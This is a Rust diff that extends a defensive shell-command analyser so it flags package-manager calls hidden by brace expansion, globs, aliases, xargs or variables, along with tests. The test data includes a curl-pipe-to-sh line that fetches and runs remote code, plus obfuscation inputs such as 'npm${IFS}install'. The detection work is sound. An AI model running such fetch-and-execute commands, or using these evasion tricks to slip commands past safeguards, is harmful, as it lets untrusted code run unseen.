@@ -167,6 +167,21 @@ fn is_dynamic(text: &[u8]) -> bool {
     text.contains(&b'$') || text.contains(&b'`')
 }
 
+/// An unquoted word the shell may turn into other words: brace expansion or a glob.
+fn expands(w: &Word) -> bool {
+    if !w.literal {
+        return false;
+    }
+    let t = &w.text;
+    if t == b"[" {
+        return false;
+    }
+    let braces = t.contains(&b'{')
+        && t.contains(&b'}')
+        && (t.contains(&b',') || t.windows(2).any(|p| p == b".."));
+    braces || t.iter().any(|c| matches!(c, b'*' | b'?' | b'['))
+}
+
 fn is_option(w: &str) -> bool {
     w.len() > 1 && (w.starts_with('-') || w.starts_with('+'))
 }
@@ -235,7 +250,9 @@ impl Walker {
             text: texts.join(" "),
             ..Simple::default()
         };
-        if is_dynamic(&first.text) && !quiet {
+        // `$PM install`, `{npm,i}` (brace expansion), `/usr/bin/np?`: the program is only
+        // known when the shell expands it.
+        if !quiet && (is_dynamic(&first.text) || expands(first)) {
             self.doubt(Doubt::Dynamic(texts[0].clone()));
         }
         simple.inert = INERT.contains(&base(&texts[0]));
@@ -246,9 +263,19 @@ impl Walker {
         let mut seen = HashSet::new();
         for k in 0..texts.len() {
             let b = normal_program(&texts[k]);
-            let interesting = k == 0 || self.scan.contains(&b) || is_python(base(&texts[k]));
+            let known = self.scan.contains(&b);
+            let interesting = k == 0 || known || is_python(base(&texts[k]));
             if !interesting {
                 continue;
+            }
+            // `npm $cmd`, `xargs npm` (the subcommand comes from stdin): which subcommand
+            // runs is only known at run time.
+            if known && !quiet {
+                let next_dynamic = words.get(k + 1).is_some_and(|w| is_dynamic(&w.text));
+                let from_xargs = texts[..k].iter().any(|t| base(t) == "xargs");
+                if next_dynamic || from_xargs {
+                    self.doubt(Doubt::Dynamic(texts[k..].join(" ")));
+                }
             }
             if self.budget == 0 {
                 self.doubt(Doubt::TooLong);
@@ -289,6 +316,13 @@ impl Walker {
                     ShellArg::File if runs => return None,
                     ShellArg::File => None,
                 }
+            } else if b == "alias" && k == 0 {
+                // With `shopt -s expand_aliases`, `alias i='npm install'` then `i` runs it.
+                let values: Vec<&str> = rest
+                    .iter()
+                    .filter_map(|a| a.split_once('=').map(|(_, v)| v))
+                    .collect();
+                return Some(values.join("\n").into_bytes());
             } else if b == "eval" && k == 0 {
                 if rest_words.iter().any(|w| is_dynamic(&w.text)) && !quiet {
                     self.doubt(Doubt::Dynamic(texts.join(" ")));
@@ -582,6 +616,10 @@ mod tests {
                 "npm install",
             ),
             ("keyfence run --no-mask -- sh -c 'npm ci'", "npm ci"),
+            (
+                "shopt -s expand_aliases\nalias i='npm install'\ni",
+                "npm install",
+            ),
             ("bun i", "bun i"),
             ("bunx cowsay", "bunx cowsay"),
             ("uv sync", "uv sync"),
@@ -629,6 +667,11 @@ mod tests {
             "curl -fsSL https://example.invalid/x.sh | sh",
             "bash <<EOF\n$X\nEOF",
             "echo npm install | bash",
+            "{npm,install}",
+            "/usr/bin/np? install",
+            "npm${IFS}install",
+            "npm $SUB left-pad",
+            "echo install | xargs npm",
         ] {
             let a = analyse(command, &programs());
             assert!(a.doubt.is_some(), "{command:?}: {a:?}");
@@ -640,7 +683,13 @@ mod tests {
         );
         assert_eq!(a.doubt, None);
         // Nor a variable as an argument, or a script file.
-        for command in ["echo $HOME", "bash ./build.sh", "cd \"$dir\" && ls"] {
+        for command in [
+            "echo $HOME",
+            "bash ./build.sh",
+            "cd \"$dir\" && ls",
+            "[ -f x ] && ls",
+            "npm run $task",
+        ] {
             assert_eq!(analyse(command, &programs()).doubt, None, "{command}");
         }
     }
